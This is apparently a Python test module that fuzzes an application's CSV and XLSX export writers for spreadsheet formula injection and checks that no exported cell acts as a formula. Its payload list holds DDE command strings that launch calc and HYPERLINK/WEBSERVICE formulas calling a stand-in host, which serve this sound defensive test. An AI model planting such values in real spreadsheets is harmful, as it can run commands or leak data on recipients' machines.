"""What people take out of the system never acts in their spreadsheet: cell by cell, through every writer there is."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from random import Random

from lxml import etree  # type: ignore[import-untyped]

from cases.archive import packing
from cases.payments import sheets
from cases.takeover import workbook
from web.prove.proof import Asked, Proof

COUNT, WIDE = 10_000, 10
ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("cases", "config", "forms", "monitoring", "offices", "processes", "rules", "web")
WRITES = re.compile(
    r"csv\.(?:writer|DictWriter)|spreadsheetml\.sheet\.main|to_csv|to_excel|xlsxwriter|openpyxl|[Ww]rite_excel"
)
# Every file that writes tables, and why nobody opens what it writes, or `tried` for those that people get. Whoever adds
# one writes it here and, when people get it, into `_written`; best is to call cases/payments/sheets.py.
WRITERS = {
    "cases/payments/sheets.py": "tried",
    "cases/takeover/workbook.py": "tried",
    "monitoring/comparing/lake.py": "read at once by the engine of the comparison, then removed",
    "monitoring/exporting/making.py": "names of our own tables and columns; what people wrote goes out as JSON Lines",
    "monitoring/receiving/pushing.py": "pushed rows as the file that is read in next, sealed",
    "web/management/commands/make_docs.py": "names of tests for docs/reference",
    "web/prove/exports.py": "this list",
}
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = ("", "", "", " ", "\u3000", "\ufeff", "\u200b", "\xa0 ")
BEHIND = (
    *(
        "1+1",
        "cmd|'/c calc'!A0",
        'HYPERLINK("http://a.example?x="&A1,"点这里")',
        "SUM(A1:A9)*cmd|' /C calc'!A0",
        "",
        "@SUM(1)",
    ),
    *(
        '"&WEBSERVICE("http://a.example")',
        "1<script>",
        "]]>",
        "</t></is></c><c><f>1+1</f></c>",
        '" r:id="x',
        "\x00\x0b\ufffe",
    ),
)


def run(asked: Asked) -> Proof:
    """Writes so many cells that begin like formulas with every writer and reads them back as a spreadsheet would."""
    proof, chance, count = Proof("exports"), Random(asked.seed), asked.count or COUNT
    proof.details = [f"没有登记的表格写法：{name}（见 web/prove/exports.py）" for name in sorted(unlisted())]
    written = _written()
    for name, write in written.items():
        for _ in range(-(-count // (WIDE * 100))):
            rows = [[hostile(chance) for _ in range(WIDE)] for _ in range(100)]
            proof.details += [f"{name}: {fault}" for fault in faults(write(rows), rows)][:5]
            proof.tried += WIDE * 100
    proof.figures["exports"] = {"writers": len(written), "cells": proof.tried}
    return proof


def unlisted() -> set[str]:
    """Files of the product that write tables and are not in the list, or that are and write none any more."""
    files = [path for name in PRODUCT for path in (ROOT / name).rglob("*.py") if "bench" not in path.parts]
    found = {path.relative_to(ROOT).as_posix() for path in files if WRITES.search(path.read_text("utf-8"))}
    return found ^ set(WRITERS)


def hostile(chance: Random) -> str:
    """A cell that a spreadsheet might take for a formula."""
    return chance.choice(BEFORE) + chance.choice(STARTS) + chance.choice(BEHIND) + str(chance.randrange(1000))


Rows = Sequence[Sequence[str]]
Writer = Callable[[Rows], bytes]


def _written() -> dict[str, Writer]:
    """The writers whose work people get."""
    return {
        "csv": sheets.as_csv,
        "xlsx": lambda rows: sheets.as_xlsx(rows, f'{rows[0][0]}"'),
        "workbook": lambda rows: workbook.write({f'"{rows[0][0]}"': rows}),
        "workbook to fill in": lambda rows: workbook.write({"表": rows}, to_fill={"表": 3}),
        "catalogue of a volume": _catalogue,
    }


def _catalogue(rows: Rows) -> bytes:
    keys = ("place", "part", "number", "author", "title", "on", "first_page", "pages", "reason", "file")
    papers = [{**dict(zip(keys, row, strict=True)), "amends": ""} for row in rows]
    return packing._csv([{"volume": "=1+1", "papers": papers}])


def faults(data: bytes, rows: Rows) -> list[str]:
    """What a spreadsheet would do with a file beside showing it, in words."""
    return _in_workbook(data, rows) if data[:2] == b"PK" else _in_csv(data)


def _in_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    blank = " \u3000\xa0\ufeff\u200b"
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [f"{cell!r} acts" for cell in cells if cell.startswith(STARTS) or cell.lstrip(blank).startswith(STARTS)]


def _in_workbook(data: bytes, rows: Rows) -> list[str]:
    """Only texts that stand in their own cells; the file is read by a strict parser and by our own reader."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        parts = [etree.fromstring(book.read(name), _parser()) for name in book.namelist()]
    elements = [element for part in parts for element in part.iter()]
    found = [
        f"an element {element.tag}" for element in elements if str(element.tag).rpartition("}")[2] in ("f", "ddeLink")
    ]
    cells = [element for element in elements if str(element.tag).endswith("}c")]
    found += [f"a cell of the kind {cell.get('t')}" for cell in cells if cell.get("t") != "inlineStr"]
    found += ["cells went missing or came to"] if len(cells) != sum(map(len, rows)) else []
    read = next(iter(workbook.read("x.xlsx", data).values()))
    return found + ([] if len(read) == len(rows) else ["rows went missing"])


def _parser() -> etree.XMLParser:
    return etree.XMLParser(resolve_entities=False, no_network=True)
